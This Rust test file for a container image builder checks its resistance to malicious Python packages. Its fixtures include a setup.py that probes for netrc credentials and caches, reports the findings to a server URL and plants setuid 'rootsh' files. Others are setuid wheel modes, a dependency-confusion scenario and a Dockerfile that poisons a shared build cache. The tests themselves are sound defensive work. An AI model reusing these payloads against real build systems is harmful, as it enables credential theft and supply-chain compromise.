//! Packages and tenants of a builder that are out to get something.

use std::fs;
use std::path::Path;
use std::process::Command;

use lamina_tests::engine::{Build, Output, Project, SECRETS, Server, containerd, setup};

/// An index with one package, `evil`.
struct Index {
    server: Server,
    sha256: String,
}

/// Packs `setup.py`, the first argument, into a source distribution.
const SDIST: &str = r#"
import hashlib, io, sys, tarfile
script, target = sys.argv[1:]
with tarfile.open(target, "w:gz") as archive:
    for name, content in (("setup.py", script), ("evil.py", "value = 1\n")):
        entry = tarfile.TarInfo(f"evil-1.0/{name}")
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content.encode()))
print(hashlib.sha256(open(target, "rb").read()).hexdigest(), end="")
"#;

/// Packs a wheel with a file of a mode and content, the first two arguments.
const WHEEL: &str = r##"
import hashlib, sys, zipfile
mode, content, target = sys.argv[1:]
version = target.split("/")[-1].split("-")[1]
info = f"Metadata-Version: 2.1\nName: evil\nVersion: {version}\n"
kind = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
files = {"evil.py": content, f"evil-{version}.data/scripts/rootsh": "#!/bin/sh\n",
         f"evil-{version}.dist-info/METADATA": info, f"evil-{version}.dist-info/WHEEL": kind}
record = f"evil-{version}.dist-info/RECORD"
files[record] = "".join(f"{name},,\n" for name in [*files, record])
with zipfile.ZipFile(target, "w") as archive:
    for name, text in files.items():
        entry = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
        entry.external_attr = (0o100000 | int(mode, 8)) << 16
        archive.writestr(entry, text)
print(hashlib.sha256(open(target, "rb").read()).hexdigest(), end="")
"##;

fn python(code: &str, arguments: &[&str], target: &Path) -> String {
    let output = Command::new("python3")
        .args(["-c", code])
        .args(arguments)
        .arg(target)
        .output()
        .expect("there is a python3");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    String::from_utf8(output.stdout).expect("a digest")
}

impl Index {
    fn new(name: &str) -> Self {
        let server = Server::start(name);
        fs::create_dir_all(server.root().join("simple/evil")).expect("target can be written");
        // What package code asks for is answered.
        fs::write(server.root().join("ran"), "").expect("target can be written");
        Self {
            server,
            sha256: String::new(),
        }
    }

    /// An index of a source distribution with this `setup.py`; `URL` in it is
    /// the server's.
    fn of_source(name: &str, script: &str) -> Self {
        let mut index = Self::new(name);
        let script = script.replace("URL", &index.server.url());
        let file = index.server.root().join("evil-1.0.tar.gz");
        index.sha256 = python(SDIST, &[&script], &file);
        index.link("evil-1.0.tar.gz");
        index
    }

    fn of_wheel(name: &str, mode: &str, content: &str) -> Self {
        Self::of_version(name, "1.0", mode, content)
    }

    fn of_version(name: &str, version: &str, mode: &str, content: &str) -> Self {
        let mut index = Self::new(name);
        let wheel = format!("evil-{version}-py3-none-any.whl");
        let file = index.server.root().join(&wheel);
        index.sha256 = python(WHEEL, &[mode, content], &file);
        index.link(&wheel);
        index
    }

    fn link(&self, file: &str) {
        let page = format!("<a href=\"../../{file}#sha256={}\">{file}</a>", self.sha256);
        let path = self.server.root().join("simple/evil/index.html");
        fs::write(path, page).expect("target can be written");
    }

    /// A project with a line for this index. Its netrc has a password for the
    /// index's host.
    fn project(&self, name: &str, line: &str) -> Project {
        let url = self.server.url();
        let options = format!("--extra-index-url {url}/simple\n");
        Project::new(name, "")
            .with("requirements/cpu.txt", &(options + line))
            .with(&format!("../{name}.netrc"), &netrc(&url))
    }

    /// The queries of what package code asked the server.
    fn heard(&self) -> Vec<String> {
        let requests = self.server.requests().into_iter();
        let heard = requests.filter(|request| request.path == "/ran");
        heard.map(|request| request.query).collect()
    }
}

/// A netrc with a password for a server.
fn netrc(url: &str) -> String {
    let address = url.trim_start_matches("http://");
    let host = address.split(':').next().unwrap_or_default();
    let password = SECRETS[1];
    format!("machine {host}\nlogin lamina\npassword {password}\n")
}

fn build<'a>(project: &'a Project, name: &str) -> Build<'a> {
    containerd()
        .build(project.path())
        .platform("linux/amd64")
        .secret("netrc", &project.path().join(format!("../{name}.netrc")))
}

/// Tells the server where it runs, and what it finds there.
const SPY: &str = r#"
import os, urllib.request
found = [path for path in ("/root/.netrc", "/root/.cache/uv", "/root/.cache/lamina-wheels")
         if os.path.exists(path)]
urllib.request.urlopen("URL/ran?" + "+".join(found)).read()
for path in ("/opt/venv", "/opt/venv/bin"):
    os.makedirs(path, exist_ok=True)
    open(path + "/rootsh", "w").close()
    os.chmod(path + "/rootsh", 0o4777)
from setuptools import setup
setup(name="evil", version="1.0", py_modules=["evil"])
"#;

#[test]
fn a_source_with_another_hash_is_never_run() {
    let index = Index::of_source("tampered", SPY);
    let hash = "0".repeat(64);
    let project = index.project("tampered", &format!("evil==1.0 --hash=sha256:{hash}\n"));
    let text = build(&project, "tampered").fail();
    assert!(text.contains("requirements/cpu.txt:2"), "{text}");
    assert!(text.contains("evil==1.0") && text.contains(&hash), "{text}");
    assert!(text.contains(&index.sha256), "{text}");
    assert_eq!(index.heard(), [""; 0]);
}

#[test]
fn a_source_is_built_without_credentials_and_caches() {
    let index = Index::of_source("spy", SPY);
    let line = format!("evil==1.0 --hash=sha256:{}\n", index.sha256);
    let project = index.project("spy", &line);
    let built = build(&project, "spy").output(Output::Archive).succeed();
    let heard = index.heard();
    assert!(
        !heard.is_empty() && heard.iter().all(String::is_empty),
        "{heard:?}"
    );
    let image = built.image("linux/amd64");
    let files = image.files();
    let module = "opt/venv/lib/python3.11/site-packages/evil.py";
    assert!(files.contains_key(module));
    let spied = files.keys().find(|path| path.ends_with("rootsh"));
    assert_eq!(spied, None);
}

#[test]
fn files_of_packages_belong_to_root_and_have_plain_modes() {
    let index = Index::of_wheel("modes", "4777", "value = 1\n");
    let project = index.project("modes", "evil==1.0\n");
    let built = build(&project, "modes").output(Output::Archive).succeed();
    let files = built.image("linux/amd64").files();
    let own = files
        .iter()
        .filter(|(path, _)| path.starts_with("opt/venv"));
    let mut count = 0;
    for (path, entry) in own {
        assert_eq!((entry.uid, entry.gid), (0, 0), "{path}");
        let is_link = entry.mode & 0o777 == 0o777 && entry.size == 0;
        assert!(is_link || entry.mode & 0o7022 == 0, "{path}: {entry:?}");
        count += 1;
    }
    assert!(count > 10);
    assert!(files.contains_key("opt/venv/bin/rootsh"));
}

/// Whoever publishes a higher version under the name of a private package
/// (dependency confusion).
#[test]
fn a_public_package_does_not_replace_a_private_one() {
    let private = Index::of_version("private", "0.1", "0644", "value = 'private'\n");
    let public = Index::of_version("public", "0.9", "0644", "value = 'public'\n");
    let (inside, outside) = (private.server.url(), public.server.url());
    let requirements = format!("--index-url {outside}/simple\nevil\n");
    let stub = format!("[[python.index]]\nurl = \"{inside}/simple\"\n");
    let project = |stub: &str| {
        Project::new("confused", stub)
            .with("requirements/cpu.txt", &requirements)
            .with("../confused.netrc", &netrc(&inside))
    };
    let confused = project(&stub);
    let text = build(&confused, "confused").fail();
    assert!(text.contains("requirements/cpu.txt:2"), "{text}");
    let expected = "the private index has the package in other versions";
    assert!(text.contains(expected), "{text}");
    // The remedy that the error gives.
    let settled = project(&(stub + "packages = [\"evil\"]\n"));
    let built = build(&settled, "confused")
        .output(Output::Archive)
        .succeed();
    let files = built.image("linux/amd64").files();
    let module = files["opt/venv/lib/python3.11/site-packages/evil.py"];
    assert_eq!(module.digest, sha256("value = 'private'\n"));
}

/// Everybody who builds on a daemon can write its cache mounts.
#[test]
fn a_changed_cache_is_never_installed() {
    let index = Index::of_wheel("poisoned", "0644", "value = 'from the index'\n");
    let namespace = format!("poisoned-{}", std::process::id());
    let image = |name: &str| {
        let project = index.project(name, "evil==1.0\n");
        let built = build(&project, name)
            .arg("BUILDKIT_CACHE_MOUNT_NS", &namespace)
            .args(&["--no-cache-filter", "torch"])
            .output(Output::Archive)
            .succeed();
        let files = built.image("linux/amd64").files();
        files["opt/venv/lib/python3.11/site-packages/evil.py"].digest
    };
    let first = image("before");
    let poison = "FROM python:3.11-slim\n\
        RUN --mount=type=cache,id=lamina-wheels,target=/cache \\\n\
            test -n \"$(find /cache -type f)\" && find /cache -type f | while read -r file; do \\\n\
                size=$(stat -c %s \"$file\"); head -c \"$size\" /dev/zero >\"$file\"; done\n";
    let project = Project::new("poison", "").with("poison.Dockerfile", poison);
    let place = setup()
        .bases()
        .into_iter()
        .find(|(name, _)| name == "python:3.11-slim");
    let (name, place) = place.expect("the engine has bases of its own");
    containerd()
        .build_dockerfile(project.path())
        .file("poison.Dockerfile")
        .context(&name, &place)
        .arg("BUILDKIT_CACHE_MOUNT_NS", &namespace)
        .succeed();
    assert_eq!(image("after"), first);
}

/// uv knows wheels of a directory by their path and date.
#[test]
fn a_directory_of_wheels_is_the_projects_own() {
    for content in ["value = 'A'\n", "value = 'B'\n"] {
        let name = format!("links-{}", &content[9..10]);
        let project = Project::new(&name, "").with("wheels/README", "").with(
            "requirements/cpu.txt",
            "--find-links ../wheels\nevil==1.0\n",
        );
        let wheel = project.path().join("wheels/evil-1.0-py3-none-any.whl");
        python(WHEEL, &["644", content], &wheel);
        let date = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
        let file = fs::File::options().append(true).open(&wheel);
        let file = file.expect("it is there");
        file.set_modified(date).expect("it is ours");
        let built = containerd()
            .build(project.path())
            .platform("linux/amd64")
            .output(Output::Archive)
            .succeed();
        let files = built.image("linux/amd64").files();
        let module = files["opt/venv/lib/python3.11/site-packages/evil.py"];
        assert_eq!(module.size, content.len() as u64);
        assert_eq!(module.digest, sha256(content), "{content}");
    }
}

fn sha256(text: &str) -> [u8; 32] {
    use sha2::Digest as _;
    sha2::Sha256::digest(text.as_bytes()).into()
}
